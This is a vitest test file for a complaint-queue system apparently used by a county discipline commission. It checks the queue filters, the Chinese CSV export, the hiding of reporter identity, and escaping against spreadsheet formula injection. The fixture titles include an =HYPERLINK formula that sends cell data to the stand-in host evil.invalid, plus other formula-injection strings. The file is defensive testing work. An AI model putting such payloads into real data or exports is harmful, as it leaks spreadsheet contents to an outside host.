/**
 * The commission's queue: its filters, read one way for the page and the export, and the export
 * itself — in Chinese whatever the page's language, and safe from formula injection (a citizen
 * chooses the title, a commission member opens the CSV in a spreadsheet).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { createTestDatabase, type TestDatabase } from '../../../../tests/support/test-db.ts';
import { eq } from 'drizzle-orm';
import { users } from '../../../../db/schema/auth.ts';
import { complaints } from '../../../../db/schema/complaints.ts';
import { listComplaintQueue, loadComplaintQueue, parseQueueFilter, queueCsv } from './queue.ts';
import { actOnComplaint } from './console.ts';
import { decide } from '../../../../tests/support/complaint-steps.ts';
import { fileComplaint } from './filing.ts';
import { assignZone, listZones } from './zones.ts';

const sanghe = { id: '', username: 'sanghe.jw', role: 'commission' as const, scopeCode: '990121000000' };
const base = {
  category: 'assets',
  areaCode: '990121001201',
  subjectRole: '村（社区）“两委”干部',
  content: '村里的集体收入去向不明，几年来从没有张榜公布过账目，群众多次询问也没有答复。',
  anonymous: true,
};
const TITLES = ['=HYPERLINK("http://evil.invalid/?q="&A2,"详情")', '+1 前营村账目不公开', '@SUM(A1:A9) 前营村收入去向', '-1+1 前营村承包费'];

let test: TestDatabase;
beforeAll(async () => {
  test = await createTestDatabase();
  sanghe.id = (await test.db.select({ id: users.id }).from(users).where(eq(users.username, 'sanghe.jw')))[0]!.id;
  for (const title of TITLES) {
    const filed = await fileComplaint(test.db, { ...base, title }, { today: '2026-11-10' });
    if (!filed.ok) throw new Error(`filing failed: ${JSON.stringify(filed.errors)}`);
  }
});
afterAll(async () => test?.dispose());

describe('the complaint queue CSV', () => {
  it('writes every title that a spreadsheet would evaluate with a leading quote', async () => {
    const queue = await listComplaintQueue(test.db, sanghe);
    expect(queue.map((entry) => entry.complaint.title).sort()).toEqual([...TITLES].sort());
    const rows: Record<string, string>[] = parse(queueCsv(queue).replace(/^\uFEFF/, ''), { columns: true });
    expect(rows.map((row) => row['标题']).sort()).toEqual(TITLES.map((title) => `'${title}`).sort());
    expect(rows.every((row) => row['登记日期'] === '2026-11-10' && row['地点'] === '前营村')).toBe(true);
    expect(rows.map((row) => row['案件编号']).sort()).toEqual(['桑纪举〔2026〕1号', '桑纪举〔2026〕2号', '桑纪举〔2026〕3号', '桑纪举〔2026〕4号']);
  });
});

describe('the queue’s filters', () => {
  const conduct = { category: 'conduct', content: '乡里的执法队查摊时只罚外地人，本地熟人占道经营从来不管，还收取管理费不开票据。', anonymous: false, name: '周桂芳', phone: '13900002222' };
  let zoneId = '';
  beforeAll(async () => {
    // Filed in January and never answered: past the 15 working days for deciding on acceptance.
    const late = await fileComplaint(test.db, { ...conduct, areaCode: '990121002201', title: '东岭村执法队乱收费' }, { today: '2026-01-05' });
    const disposed = await fileComplaint(test.db, { ...conduct, areaCode: '990121002202', title: '石槽村执法队选择性执法', anonymous: true }, { today: '2026-11-15' });
    if (!late.ok || !disposed.ok) throw new Error('filing failed');
    const idOf = async (title: string) => (await test.db.select({ id: complaints.id }).from(complaints).where(eq(complaints.title, title)))[0]!.id;
    zoneId = (await listZones(test.db, sanghe.scopeCode))[0]!.id;
    if (!(await assignZone(test.db, sanghe, { complaintId: await idOf('东岭村执法队乱收费'), zoneId })).ok) throw new Error('zone');
    const disposedId = await idOf('石槽村执法队选择性执法');
    await actOnComplaint(test.db, sanghe, { complaintId: disposedId, action: 'accept' });
    await decide(test.db, disposedId, 'dispose', 'preliminary_check');
  });
  const titles = async (query: string) => (await loadComplaintQueue(test.db, sanghe, new URLSearchParams(query), '2026-11-20')).entries.map((entry) => entry.complaint.title).sort();

  it('reads the address, ignoring values that are not among the choices', () => {
    const choices = { zones: [{ id: 'zone-1', name: '第一片区' }], places: [{ code: '990121002000', name: '东岭乡', depth: 0 }], handlers: [{ id: 'h-1', displayName: '承办人' }] };
    expect(parseQueueFilter(new URLSearchParams('q=%20执法队%20%20乱收费%20&status=accepted&category=conduct&subject=township_cadre&handler=h-1&zone=zone-1&area=990121002000&overdue=1&merged=1'), choices)).toEqual({
      q: '执法队 乱收费',
      status: 'accepted',
      category: 'conduct',
      subjectLevel: 'township_cadre',
      handler: 'h-1',
      zoneId: 'zone-1',
      areaCode: '990121002000',
      overdue: true,
      includeMerged: true,
    });
    // A typed area code that is not a place offered, a handler of another commission, a made-up status…
    expect(parseQueueFilter(new URLSearchParams('q=&status=closed&category=rumour&subject=mayor&handler=h-2&zone=zone-2&area=990122001000&overdue=yes'), choices)).toEqual({
      q: undefined,
      status: undefined,
      category: undefined,
      subjectLevel: undefined,
      handler: undefined,
      zoneId: undefined,
      areaCode: undefined,
      overdue: false,
      includeMerged: false,
    });
    expect(parseQueueFilter(new URLSearchParams('handler=none')).handler).toBe('none');
    expect(parseQueueFilter(new URLSearchParams(`q=${'长'.repeat(80)}`)).q).toHaveLength(50);
  });

  it('filters by status, category, place, zone and overdue, alone and together', async () => {
    expect(await titles('category=conduct')).toEqual(['东岭村执法队乱收费', '石槽村执法队选择性执法']);
    expect(await titles('status=in_progress')).toEqual(['石槽村执法队选择性执法']);
    expect(await titles('area=990121002201')).toEqual(['东岭村执法队乱收费']);
    expect(await titles('area=990121002000')).toEqual(['东岭村执法队乱收费', '石槽村执法队选择性执法']);
    expect(await titles(`zone=${zoneId}`)).toEqual(['东岭村执法队乱收费']);
    expect(await titles('overdue=1')).toEqual(['东岭村执法队乱收费']);
    expect(await titles('category=assets&overdue=1')).toEqual([]);
    expect((await titles('')).length).toBe(TITLES.length + 2);
  });

  it('offers a county commission its zones, and no zone filter to a township commission', async () => {
    expect((await loadComplaintQueue(test.db, sanghe, new URLSearchParams())).zones.map((zone) => zone.id)).toContain(zoneId);
    const township = { ...sanghe, scopeCode: '990121002000' };
    expect(await loadComplaintQueue(test.db, township, new URLSearchParams(`zone=${zoneId}`))).toMatchObject({ filter: expect.objectContaining({ zoneId: undefined }), zones: [], handlers: [], entries: [] });
  });

  it('writes categories, statuses and disposals in Chinese, and never the reporter', async () => {
    const { entries } = await loadComplaintQueue(test.db, sanghe, new URLSearchParams('category=conduct'));
    const rows: Record<string, string>[] = parse(queueCsv(entries).replace(/^\uFEFF/, ''), { columns: true });
    expect(rows.map((row) => [row['标题'], row['类别'], row['状态'], row['实名'], row['处置方式']]).sort()).toEqual([
      ['东岭村执法队乱收费', '干部作风', '已收到', '是', ''],
      ['石槽村执法队选择性执法', '干部作风', '办理中', '否', '初步核实'],
    ]);
    expect(queueCsv(entries)).not.toMatch(/周桂芳|13900002222/);
  });
});
